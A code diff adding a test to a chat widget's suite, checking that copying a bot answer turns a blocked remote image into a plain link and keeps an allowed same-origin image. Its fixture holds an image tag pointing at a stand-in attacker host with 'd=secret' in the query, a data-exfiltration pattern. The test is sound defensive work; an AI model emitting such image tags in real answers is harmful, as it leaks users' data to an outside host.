@@ -224,6 +224,27 @@ describe('copy answer', () => {
     // Streaming answers and the visitor's own messages offer no copy.
     expect($$(el, '[part~="message-user"] [part~="copy"]').length).to.equal(0);
   });
+
+  it('copies an image nobody allowed (a click-to-load placeholder on screen) as a link, never as an image a paste would fetch', async () => {
+    const own = `${location.origin}/own.png`;
+    const r = relay().queue(
+      welcomeChunks(),
+      answer(`<p>See <img src="https://attacker.example/p.gif?d=secret" alt="chart"> and <img src="${own}" alt="ours"></p>`),
+    );
+    const el = await mount(r, { mode: 'inline' });
+    el.mediaOrigins = 'self';
+    await ready(el);
+    await typeAndEnter(el, 'hi');
+    await waitUntil(() => botMessages(el).length === 2 && el.conversation.transcript.status === 'idle', 'answer');
+    await el.updateComplete;
+    expect(botMessages(el)[1]!.querySelectorAll('[part~="blocked-media"]').length).to.equal(1);
+    botMessages(el)[1]!.querySelector<HTMLButtonElement>('[part~="copy"]')!.click();
+    await waitUntil(() => calls.length > 0, 'clipboard written');
+    const rich = await (await written.items[0]!.getType('text/html')).text();
+    expect(rich).to.not.contain('<img src="https://attacker.example');
+    expect(rich).to.contain('<a href="https://attacker.example/p.gif?d=secret">chart</a>');
+    expect(rich).to.contain(`<img src="${own}" alt="ours"`); // allowed on render: still an image
+  });
 });
 
 describe('timestamps and day separators', () => {
